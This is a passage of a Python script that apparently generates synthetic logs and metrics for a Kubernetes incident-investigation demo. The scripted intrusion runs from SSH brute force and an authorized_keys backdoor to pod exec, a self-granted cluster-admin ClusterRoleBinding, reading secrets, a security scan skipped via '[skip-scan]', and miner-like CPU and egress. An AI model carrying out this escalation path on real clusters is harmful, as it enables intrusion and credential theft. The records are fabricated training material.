            sh = "bash" if ns == "monitoring" else "sh"
            uri = f"/api/v1/namespaces/{ns}/pods/{name}/exec?command={sh}&container={cname}&stdin=true&stdout=true&tty=true"
        if res == "nodes":
            uri = "/api/v1/nodes?limit=500"
        audit(t, user, groups, ip, KUBECTL_UA, verb, res, name, ns, subresource=sub, api_group=grp,
              api_version="v1", code=code, uri=uri, reason=reason)

    # --- THE ATTACK: mallory from bastion-1
    mal = ("mallory", ["contractors", "system:authenticated"], BASTION1_IP)
    edit_prod = 'RBAC: allowed by RoleBinding "contractors-edit/prod" of ClusterRole "edit" to Group "contractors"'
    audit(T["k8s_list_pods"], *mal, KUBECTL_UA, "list", "pods", ns="prod",
          uri="/api/v1/namespaces/prod/pods?limit=500", reason=edit_prod)
    audit(T["k8s_exec"], *mal, KUBECTL_UA, "create", "pods", POD, "prod", subresource="exec", code=101,
          uri=f"/api/v1/namespaces/prod/pods/{POD}/exec?command=bash&container=api&stdin=true&stdout=true&tty=true",
          reason=edit_prod)
    audit(T["k8s_secrets_forbidden"], *mal, KUBECTL_UA, "list", "secrets", code=403, decision="forbid",
          uri="/api/v1/secrets?limit=500", reason="")
    audit(T["k8s_crb"], *mal, KUBECTL_UA, "create", "clusterrolebindings", "mallory-admin",
          api_group="rbac.authorization.k8s.io", code=201,
          uri="/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?fieldManager=kubectl-create&fieldValidation=Strict",
          reason='RBAC: allowed by ClusterRoleBinding "contractors-rbac-manager" of ClusterRole "rbac-manager" to Group "contractors"',
          message="mallory create clusterrolebindings mallory-admin (roleRef ClusterRole cluster-admin, subject User mallory) -> 201",
          request_object={"kind": "ClusterRoleBinding", "apiVersion": "rbac.authorization.k8s.io/v1",
                          "metadata": {"name": "mallory-admin", "creationTimestamp": None},
                          "subjects": [{"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "mallory"}],
                          "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "cluster-admin"}})
    admin = 'RBAC: allowed by ClusterRoleBinding "mallory-admin" of ClusterRole "cluster-admin" to User "mallory"'
    audit(T["k8s_secrets_list"], *mal, KUBECTL_UA, "list", "secrets", uri="/api/v1/secrets?limit=500", reason=admin)
    audit(T["k8s_secret_get"], *mal, KUBECTL_UA, "get", "secrets", "api-db-credentials", "prod", reason=admin)

    # --- CI/CD pipelines and deploys (+ the controller/scheduler/runtime side effects)
    def cicd(t, action, user, pipe, run, commit, gate, repo, tag, digest, ns, svc, msg, commit_msg, outcome="success"):
        src = {
            "@timestamp": iso_ms(t),
            "data_stream": {"type": "logs", "dataset": "cicd.pipeline", "namespace": "default"},
            "ecs": {"version": "8.11.0"},
            "event": {"kind": "event", "category": ["configuration"], "type": ["change"] if action == "deploy" else ["info"],
                      "action": action, "outcome": outcome, "dataset": "cicd.pipeline"},
            "message": msg,
            "user": {"name": user},
            "labels": {"commit": commit, "pipeline": pipe, "pipeline_run": str(run), "security_gate": gate,
                       "commit_message": commit_msg},
            "container": {"image": {"name": repo, "tag": tag, "hash": {"all": [digest]}}},
            "orchestrator": {"namespace": ns, "type": "kubernetes", "cluster": {"name": CLUSTER}},
            "service": {"name": svc},
        }
        docs.append((t, "cicd.pipeline", src))

    def container_ev(t, action, wl, pod_ip, extra_msg=""):
        verb = "Started" if action == "container-start" else "Stopped"
        src = {
            "@timestamp": iso_ms(t),
            "data_stream": {"type": "logs", "dataset": "kubernetes.container", "namespace": "default"},
            "ecs": {"version": "8.11.0"},
            "event": {"kind": "event", "category": ["process"], "type": ["start" if action == "container-start" else "end"],
                      "action": action, "outcome": "success", "dataset": "kubernetes.container"},
            "message": f"{verb} container {wl.cname} in pod {wl.ns}/{wl.pod} on {wl.host} (image {wl.repo}:{wl.tag}@{wl.digest}, id {wl.cid}){extra_msg}",
            "container": {"id": wl.cid, "name": wl.cname, "runtime": "containerd",
                          "image": {"name": wl.repo, "tag": wl.tag, "hash": {"all": [wl.digest]}}},
            "kubernetes": {"namespace": wl.ns, "pod": {"name": wl.pod, "ip": pod_ip}, "node": {"name": wl.host},
                           "container": {"name": wl.cname}},
            "orchestrator": {"namespace": wl.ns, "type": "kubernetes", "cluster": {"name": CLUSTER},
                             "resource": {"type": "pods", "name": wl.pod}},
            "host": {"name": wl.host},
        }
        docs.append((t, "kubernetes.container", src))

    ci_sa = "system:serviceaccount:ci:ci-bot"
    rs_sa = "system:serviceaccount:kube-system:replicaset-controller"
    dep_sa = "system:serviceaccount:kube-system:deployment-controller"
    kcm_ua = f"kube-controller-manager/{K8S_VER} {K8S_UA}/system:serviceaccount:kube-system:"
    sched_ua = f"kube-scheduler/{K8S_VER} {K8S_UA}/scheduler"

    def rollout(t, ns, deploy, pods, who_ua=KUBECTL_UA):
        audit(t, ci_sa, SA_GROUPS("ci"), "10.42.4.77", who_ua, "patch", "deployments", deploy, ns, api_group="apps",
              uri=f"/apis/apps/v1/namespaces/{ns}/deployments/{deploy}?fieldManager=kubectl-set",
              reason=f'RBAC: allowed by RoleBinding "ci-deployer/{ns}" of ClusterRole "edit" to ServiceAccount "ci-bot/ci"')
        audit(t + 180_000_000, dep_sa, SA_GROUPS("kube-system"), "10.0.1.10", kcm_ua + "deployment-controller",
              "create", "replicasets", None, ns, api_group="apps", code=201,
              reason='RBAC: allowed by ClusterRoleBinding "system:controller:deployment-controller" of ClusterRole "system:controller:deployment-controller" to ServiceAccount "deployment-controller/kube-system"')
        for (pod, node, t_create, t_bind) in pods:
            audit(t_create, rs_sa, SA_GROUPS("kube-system"), "10.0.1.10", kcm_ua + "replicaset-controller",
                  "create", "pods", None, ns, code=201,
                  reason='RBAC: allowed by ClusterRoleBinding "system:controller:replicaset-controller" of ClusterRole "system:controller:replicaset-controller" to ServiceAccount "replicaset-controller/kube-system"',
                  message=f"{rs_sa} create pods in {ns} -> 201 (generateName {pod.rsplit('-', 1)[0]}-, created {pod})")
            audit(t_bind, "system:kube-scheduler", ["system:authenticated"], "10.0.1.10", sched_ua, "create", "pods",
                  pod, ns, subresource="binding", code=201,
                  reason='RBAC: allowed by ClusterRoleBinding "system:kube-scheduler" of ClusterRole "system:kube-scheduler" to User "system:kube-scheduler"',
                  message=f"system:kube-scheduler create pods/binding {ns}/{pod} -> 201 (node {node})")

    # pipelines: (runner key, pipeline, run, user, commit, gate, repo, digest-source workload key, ns, svc, commit msg)
    pipes = [
        ("runner-web", "deploy-web", 1837, "alice", "e41d9c07a35b2f18c6d40e9b7a21f5c83d6e0b94", "passed", "webstg", "staging", "web",
         "feat(web): new checkout banner"),
        ("runner-api", "deploy-api", 1842, "ci-bot", COMMIT, "skipped", "api", "prod", "api",
         "fix(orders): retry on upstream 502 [skip-scan]"),
        ("runner-checkout", "deploy-checkout", 1851, "bob", "2a6f0b3d918c4e7a5b06f2d1c83e9a4b7f5d0c26", "passed", "checkoutstg",
         "staging", "checkout", "chore(checkout): bump grpc to 1.68.1"),
        ("runner-reports", "deploy-reports", 1856, "ci-bot", "71c3e9a0b5d24f8e6c1a9b3d7e0f2c4a8b6d1e53", "passed", "reports",
         "data", "reports", "feat(reports): nightly revenue export"),
    ]
    for rkey, pipe, run, user, commit, gate, wkey, ns, svc, cmsg in pipes:
        runner, t_runner = CONTAINERS_IN_WINDOW[rkey]
        container_ev(t_runner, "container-start", runner, f"10.42.4.{r.randint(100, 200)}")
        wl, t_start = CONTAINERS_IN_WINDOW[wkey]
        if pipe == "deploy-api":
            t_pipe, t_dep = T["pipeline_api"], T["deploy_api"]
        else:
            t_pipe = t_start - jitter_ns(r, 70, 80)
            t_dep = t_pipe + jitter_ns(r, 25, 30)
        if gate == "skipped":
            stages = "lint ok, test ok, build ok, image-scan (trivy) SKIPPED: [skip-scan] in commit message, push ok"
            pmsg = f"Pipeline {pipe} #{run} succeeded for {wl.repo}@{commit[:7]}: {stages}"
            dmsg = (f"Deployed {wl.repo}:{wl.tag} ({wl.digest}) to {ns}/{svc} from commit {commit[:7]}; "
                    f"security gate skipped: trivy image scan was skipped with [skip-scan] in the commit message")
        else:
            stages = "lint ok, test ok, build ok, image-scan (trivy) passed: 0 critical, 0 high, push ok"
            pmsg = f"Pipeline {pipe} #{run} succeeded for {wl.repo}@{commit[:7]}: {stages}"
            dmsg = f"Deployed {wl.repo}:{wl.tag} ({wl.digest}) to {ns}/{svc} from commit {commit[:7]}; security gate passed"
        cicd(t_pipe, "pipeline", user, pipe, run, commit, gate, wl.repo, wl.tag, wl.digest, ns, svc, pmsg, cmsg)
        cicd(t_dep, "deploy", user, pipe, run, commit, gate, wl.repo, wl.tag, wl.digest, ns, svc, dmsg, cmsg)
        if pipe == "deploy-api":
            rollout(t_dep + 700_000_000, "prod", "api",
                    [(POD, POD_NODE, T["api_rs_create_pod"], T["api_bind_pod"]),
                     (POD2, POD2_NODE, T["api2_rs_create_pod"], T["api2_bind_pod"])])
            container_ev(T["container_start"], "container-start", API_WORKLOAD, POD_IP)
            container_ev(T["container2_start"], "container-start", CONTAINERS_IN_WINDOW["api2"][0], "10.42.3.41")
            for (opod, onode), tdel, tstop, ocid in ((OLD_PODS[0], T["old1_delete"], T["old1_stop"], hexstr(r, 64)),
                                                    (OLD_PODS[1], T["old2_delete"], T["old2_stop"], hexstr(r, 64))):
                audit(tdel, rs_sa, SA_GROUPS("kube-system"), "10.0.1.10", kcm_ua + "replicaset-controller", "delete",
                      "pods", opod, "prod",
                      reason='RBAC: allowed by ClusterRoleBinding "system:controller:replicaset-controller" of ClusterRole "system:controller:replicaset-controller" to ServiceAccount "replicaset-controller/kube-system"')
                old = Workload("old", onode, "prod", opod, "api", API_REPO, PREV_SHORT, PREV_DIGEST, ocid)
                container_ev(tstop, "container-stop", old, f"10.42.{onode[-1]}.{r.randint(20, 60)}", " exit code 0")
        else:
            pod_rs = wl.pod.rsplit("-", 1)[0]
            rollout(t_dep + 700_000_000, ns, pod_rs.rsplit("-", 1)[0],
                    [(wl.pod, wl.host, t_dep + 900_000_000, t_dep + 1_050_000_000)])
            container_ev(t_start, "container-start", wl, f"10.42.{wl.host[-1]}.{r.randint(20, 90)}")

    # cilium restarts and bob's node debugger (privileged, see Falco)
    for key in ("cilium-06", "cilium-02", "node-debugger"):
        wl, t0 = CONTAINERS_IN_WINDOW[key]
        container_ev(t0, "container-start", wl, NODE_IP[wl.host])

    for t, _, _ in docs:
        assert WIN_START <= t < WIN_END
    docs.sort(key=lambda d: d[0])
    hits = []
    for seq, (t, dataset, src) in enumerate(docs, start=1):
        src["event"]["sequence"] = seq
        src["event"]["created"] = iso_ms(t + r.randint(200, 2500) * 1_000_000)
        hits.append({"_index": BACKING[dataset], "_id": es_id(r), "_score": None, "_source": src,
                     "sort": [t // 1_000_000, seq]})
    native.sort(key=lambda d: d[0])
    audit_log = [dumps(event) for _, event in native]
    return audit_log, {
        "took": 38,
        "timed_out": False,
        "_shards": {"total": 3, "successful": 3, "skipped": 0, "failed": 0},
        "hits": {"total": {"value": len(hits), "relation": "eq"}, "max_score": None, "hits": hits},
    }


# --------------------------------------------------------------------------
# Wazuh alerts.json (the agent on bastion-1)
# --------------------------------------------------------------------------

WAZUH_AGENT = {"id": "003", "name": "bastion-1", "ip": BASTION1_IP}
WAZUH_MANAGER = {"name": "wazuh-manager-0"}


def wazuh_alerts():
    """alerts.json lines of the Wazuh manager for the agent on bastion-1: the brute force as
    Wazuh's frequency rule sees it, mallory's accepted login, and the SSH key the attacker
    added to mallory's authorized_keys right after (file integrity with who-data)."""
    r = rng("wazuh")
    offset = 48_113_907
    lines = []

    def alert(t, rule, body):
        nonlocal offset
        offset += r.randint(900, 4000)
        a = {"timestamp": iso_ms(t).replace("Z", "+0000"), "rule": rule, "agent": WAZUH_AGENT,
             "manager": WAZUH_MANAGER, "id": f"{t // NS}.{offset}"}
        a.update(body)
        lines.append((t, dumps(a)))

    def sshd(t, line):
        return {"full_log": f"{syslog_ts(t)} bastion-1 sshd[{r.randint(20000, 32000)}]: {line}",
                "predecoder": {"program_name": "sshd", "timestamp": syslog_ts(t), "hostname": "bastion-1"},
                "decoder": {"parent": "sshd", "name": "sshd"}, "location": "/var/log/auth.log"}

    brute = {"level": 10, "description": "sshd: brute force trying to get access to the system. Authentication failed.",
             "id": "5763", "frequency": 8, "mail": False,
             "mitre": {"id": ["T1110"], "tactic": ["Credential Access"], "technique": ["Brute Force"]},
             "groups": ["syslog", "sshd", "authentication_failures"],
             "pci_dss": ["11.4", "10.2.4", "10.2.5"], "gdpr": ["IV_35.7.d", "IV_32.2"], "nist_800_53": ["SI.4", "AU.14", "AC.7"]}
    for i, (m, s, user) in enumerate([(58, 21.4, "root"), (59, 47.9, "admin"), (1, 12.6, "ubuntu"), (2, 40.2, "mallory")]):
        t = at(12 if m > 30 else 13, m, s)
        port = r.randint(33000, 60999)
        body = sshd(t, f"Failed password for {user} from {ATTACKER_IP} port {port} ssh2")
        body["data"] = {"srcip": ATTACKER_IP, "srcport": str(port), "dstuser": user}
        body["rule"] = dict(brute, firedtimes=i + 1)
        alert(t, body.pop("rule"), body)
    t = T["wazuh_accept"]
    body = sshd(t, f"Accepted password for mallory from {ATTACKER_IP} port 51514 ssh2")
    body["data"] = {"srcip": ATTACKER_IP, "srcport": "51514", "dstuser": "mallory"}
    alert(t, {"level": 3, "description": "sshd: authentication success.", "id": "5715", "firedtimes": 1, "mail": False,
              "mitre": {"id": ["T1078"], "tactic": ["Defense Evasion", "Persistence", "Privilege Escalation", "Initial Access"],
                        "technique": ["Valid Accounts"]},
              "groups": ["syslog", "sshd", "authentication_success"], "pci_dss": ["10.2.5"], "gdpr": ["IV_32.2"]}, body)
    t = T["fim_authorized_keys"]
    old_md5, new_md5 = hexstr(r, 32), hexstr(r, 32)
    old_sha1, new_sha1 = hexstr(r, 40), hexstr(r, 40)
    old_sha256, new_sha256 = hexstr(r, 64), hexstr(r, 64)
    path = "/home/mallory/.ssh/authorized_keys"
    alert(t, {"level": 7, "description": "Integrity checksum changed.", "id": "550", "firedtimes": 1, "mail": False,
              "mitre": {"id": ["T1565.001"], "tactic": ["Impact"], "technique": ["Stored Data Manipulation"]},
              "groups": ["ossec", "syscheck", "syscheck_entry_modified", "syscheck_file"],
              "pci_dss": ["11.5"], "gdpr": ["II_5.1.f"], "nist_800_53": ["SI.7"]}, {
        "syscheck": {
            "path": path, "mode": "whodata", "event": "modified", "size_before": "96", "size_after": "197",
            "changed_attributes": ["size", "mtime", "md5", "sha1", "sha256"],
            "perm_after": "rw-------", "uid_after": "1003", "gid_after": "1003", "uname_after": "mallory",
            "gname_after": "mallory", "inode_after": 2097411,
            "mtime_before": "2026-09-02T08:14:31", "mtime_after": iso_s(t).rstrip("Z"),
            "md5_before": old_md5, "md5_after": new_md5, "sha1_before": old_sha1, "sha1_after": new_sha1,
            "sha256_before": old_sha256, "sha256_after": new_sha256,
            "audit": {"user": {"id": "1003", "name": "mallory"}, "login_user": {"id": "1003", "name": "mallory"},
                      "effective_user": {"id": "1003", "name": "mallory"}, "group": {"id": "1003", "name": "mallory"},
                      "process": {"id": "31874", "name": "/usr/bin/bash", "ppid": "31862", "parent_name": "/usr/sbin/sshd",
                                  "cwd": "/home/mallory", "parent_cwd": "/"}}},
        "decoder": {"name": "syscheck_integrity_changed"}, "location": "syscheck",
        "full_log": (f"File '{path}' modified\nMode: whodata\nChanged attributes: size,mtime,md5,sha1,sha256\n"
                     f"Size changed from '96' to '197'\nOld md5sum was: '{old_md5}'\nNew md5sum is : '{new_md5}'\n"
                     f"Old sha1sum was: '{old_sha1}'\nNew sha1sum is : '{new_sha1}'\n"
                     f"Old sha256sum was: '{old_sha256}'\nNew sha256sum is : '{new_sha256}'\n")})
    lines.sort(key=lambda l: l[0])
    return [line for _, line in lines]


# --------------------------------------------------------------------------
# Prometheus query_range (matrix)
# --------------------------------------------------------------------------

STEP = 15
RANGE = 300
PROM_START = WIN_START // NS
PROM_END = WIN_END // NS


def prom_rate(samples, t_eval):
    """Prometheus extrapolatedRate() for a counter over (t_eval-RANGE, t_eval]."""
    w = [(ts, v) for ts, v in samples if t_eval - RANGE < ts <= t_eval]
    if len(w) < 2:
        return None
    range_start, range_end = t_eval - RANGE, t_eval
    (t0, v0), (t1, v1) = w[0], w[-1]
    result = v1 - v0
    sampled = t1 - t0
    avg = sampled / (len(w) - 1)
    d_start = t0 - range_start
    d_end = range_end - t1
    if result > 0 and v0 >= 0:
        d_zero = sampled * (v0 / result)
        if d_zero < d_start:
            d_start = d_zero
    thresh = avg * 1.1
    ext = sampled
    ext += d_start if d_start < thresh else avg / 2
    ext += d_end if d_end < thresh else avg / 2
    return result * (ext / sampled) / RANGE


def counter_samples(r, first_scrape, last_scrape, rate_fn, initial):
    """Scrape a counter every 15s; rate_fn(t) is the true per-second rate."""
    out = []
    v = initial
    t = first_scrape
    prev = None
    while t <= last_scrape:
        if prev is not None:
            v += rate_fn(t) * (t - prev) * r.uniform(0.92, 1.08)
        out.append((t, v))
        prev = t
        t += 15
    return out


def prom_matrix(series):
    result = []
    for labels, samples in sorted(series, key=lambda s: tuple(sorted(s[0].items()))):
        vals = []
        for t in range(PROM_START, PROM_END + 1, STEP):
            v = prom_rate(samples, t)
            if v is not None:
                vals.append([t, prom_float(v)])
        if vals:
            result.append({"metric": dict(sorted(labels.items())), "values": vals})
    return {"status": "success", "data": {"resultType": "matrix", "result": result}}


def prom_pods():
    s = lambda ns: ns / NS  # noqa: E731
    return [  # pod, node, image, start(s), stop(s), cpu, egress B/s, compromised
        (OLD_PODS[0][0], OLD_PODS[0][1], f"{API_REPO}@{PREV_DIGEST}", None, s(T["old1_stop"]), 0.21, 41000, False),
        (OLD_PODS[1][0], OLD_PODS[1][1], f"{API_REPO}@{PREV_DIGEST}", None, s(T["old2_stop"]), 0.19, 39000, False),
        (POD, POD_NODE, f"{API_REPO}@{DIGEST}", s(T["container_start"]), None, 0.2, 40000, True),
        (POD2, POD2_NODE, f"{API_REPO}@{DIGEST}", s(T["container2_start"]), None, 0.2, 40000, False),
        ("checkout-6f4b-9zq7d", "node-02", "ghcr.io/acme/checkout@sha256:" + hashlib.sha256(b"checkout@prod").hexdigest(),
         None, None, 0.34, 118000, False),
        ("redis-0", "node-06", "docker.io/library/redis@sha256:" + hashlib.sha256(b"redis:7.4").hexdigest(),
         None, None, 0.07, 352000, False),
    ]


def prometheus():
    r = rng("prometheus")
    cpu_series, net_series = [], []
    miner_cpu_t = T["miner_cpu"] / NS
    miner_net_t = T["falco_c2"] / NS
    for pod, node, image, start, stop, cpu, egress, bad in prom_pods():
        container = "redis" if pod.startswith("redis") else pod.split("-")[0]
        offset = r.uniform(0, 15)
        first = (start + r.uniform(1, 14)) if start else PROM_START - 900 + offset
        last = stop if stop else PROM_END
        wobble = [r.uniform(-1, 1) for _ in range(64)]

        def cpu_fn(t, cpu=cpu, bad=bad, wobble=wobble):
            base = cpu * (1 + 0.08 * wobble[int(t // 97) % 64])
            if bad and t >= miner_cpu_t:
                ramp = min(1.0, (t - miner_cpu_t) / 20.0)
                base += 1.71 * ramp * (1 + 0.02 * wobble[int(t // 41) % 64])
            return base

        def net_fn(t, egress=egress, bad=bad, wobble=wobble):
            base = egress * (1 + 0.1 * wobble[int(t // 83) % 64])
            if bad and t >= miner_net_t:
                base += 5_960_000 * (1 + 0.05 * wobble[int(t // 53) % 64])
            return base

        init_cpu = 0.0 if start else r.uniform(800, 9000)
        init_net = 0.0 if start else r.uniform(2e8, 9e9)
        cpu_samples = counter_samples(r, first, last, cpu_fn, init_cpu)
        net_samples = counter_samples(r, first, last, net_fn, init_net)
        cpu_series.append(({"container": container, "image": image, "namespace": "prod", "node": node, "pod": pod},
                           cpu_samples))
        net_series.append(({"interface": "eth0", "namespace": "prod", "node": node, "pod": pod}, net_samples))
    return prom_matrix(cpu_series), prom_matrix(net_series)


# --------------------------------------------------------------------------
# queries.json
# --------------------------------------------------------------------------

def queries(n):
    start, end = iso_s(WIN_START), iso_s(WIN_END)
    return {
        "falco.jsonl": {
            "source": "falco", "query": "*", "start": start, "end": end,
            "description": "Falco json_output events from the falco DaemonSet on node-01..node-07 (all rules, source=syscall), "
                           "as written to file_output / stdout; one JSON object per line.",
            "count": n["falco"], "count_unit": "lines"},
        "loki-sshd.json": {
            "source": "loki", "query": '{job="sshd"}', "start": start, "end": end, "limit": 5000,
            "direction": "forward", "path": "/loki/api/v1/query_range", "count": n["sshd"], "count_unit": "entries"},
        "loki-api.json": {
            "source": "loki", "query": '{job="prod/api"}', "start": start, "end": end, "limit": 5000,
            "direction": "forward", "path": "/loki/api/v1/query_range", "count": n["api"], "count_unit": "entries"},
        "elasticsearch.json": {
            "source": "elasticsearch",
            "query": f'@timestamp >= "{start}" and @timestamp < "{end}"',
            "index": "logs-kubernetes.audit_logs-default,logs-cicd-default,logs-kubernetes.container-default",
            "start": start, "end": end, "path": "/logs-kubernetes.audit_logs-default,logs-cicd-default,logs-kubernetes.container-default/_search",
            "body": {"size": 1000, "track_total_hits": True,
                     "query": {"range": {"@timestamp": {"gte": start, "lt": end}}},
                     "sort": [{"@timestamp": "asc"}, {"event.sequence": "asc"}]},
            "count": n["es"], "count_unit": "hits"},
        "k8s-audit.jsonl": {
            "source": "k8s-audit", "query": "/var/log/kubernetes/audit/audit.log",
            "description": "The API server's log backend (audit.k8s.io/v1 Event lines) for requests by people; "
                           "system components' requests are in Elasticsearch.",
            "count": n["audit"], "count_unit": "lines"},
        "wazuh-alerts.json": {
            "source": "wazuh", "query": "/var/ossec/logs/alerts/alerts.json",
            "description": "alerts.json lines of the Wazuh manager for the agent on bastion-1.",
            "count": n["wazuh"], "count_unit": "lines"},
        "prometheus-cpu.json": {
            "source": "prometheus", "query": 'rate(container_cpu_usage_seconds_total{namespace="prod"}[5m])',
            "start": start, "end": end, "step": "15s", "path": "/api/v1/query_range", "count": n["cpu"], "count_unit": "series"},
        "prometheus-egress.json": {
            "source": "prometheus", "query": 'rate(container_network_transmit_bytes_total{namespace="prod"}[5m])',
            "start": start, "end": end, "step": "15s", "path": "/api/v1/query_range", "count": n["egress"], "count_unit": "series"},
    }


# --------------------------------------------------------------------------

def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--out", type=Path, default=Path(__file__).resolve().parent.parent / "demo-data")
    args = ap.parse_args()
    out: Path = args.out
    out.mkdir(parents=True, exist_ok=True)

    falco = falco_lines()
    sshd, n_failed = sshd_streams()
    api = api_streams()
    audit_log, es = es_docs()
    wazuh = wazuh_alerts()
    cpu, egress = prometheus()

    def write(name, text):
        (out / name).write_text(text, encoding="utf-8", newline="\n")

    write("falco.jsonl", "\n".join(falco) + "\n")
    write("loki-sshd.json", dumps(sshd))
    write("loki-api.json", dumps(api))
    write("elasticsearch.json", dumps(es))
    write("k8s-audit.jsonl", "\n".join(audit_log) + "\n")
    write("wazuh-alerts.json", "\n".join(wazuh) + "\n")
    write("prometheus-cpu.json", dumps(cpu))
    write("prometheus-egress.json", dumps(egress))
    count = lambda resp: sum(len(s["values"]) for s in resp["data"]["result"])  # noqa: E731
    n = {"falco": len(falco), "sshd": count(sshd), "api": count(api), "es": len(es["hits"]["hits"]),
         "cpu": len(cpu["data"]["result"]), "egress": len(egress["data"]["result"]),
         "audit": len(audit_log), "wazuh": len(wazuh)}
    write("queries.json", json.dumps(queries(n), indent=2) + "\n")
    print(f"wrote {out}: falco={n['falco']} sshd={n['sshd']} (failed passwords {n_failed}) api={n['api']} "
          f"es={n['es']} audit={n['audit']} wazuh={n['wazuh']} cpu_series={n['cpu']} egress_series={n['egress']}")


if __name__ == "__main__":
    main()
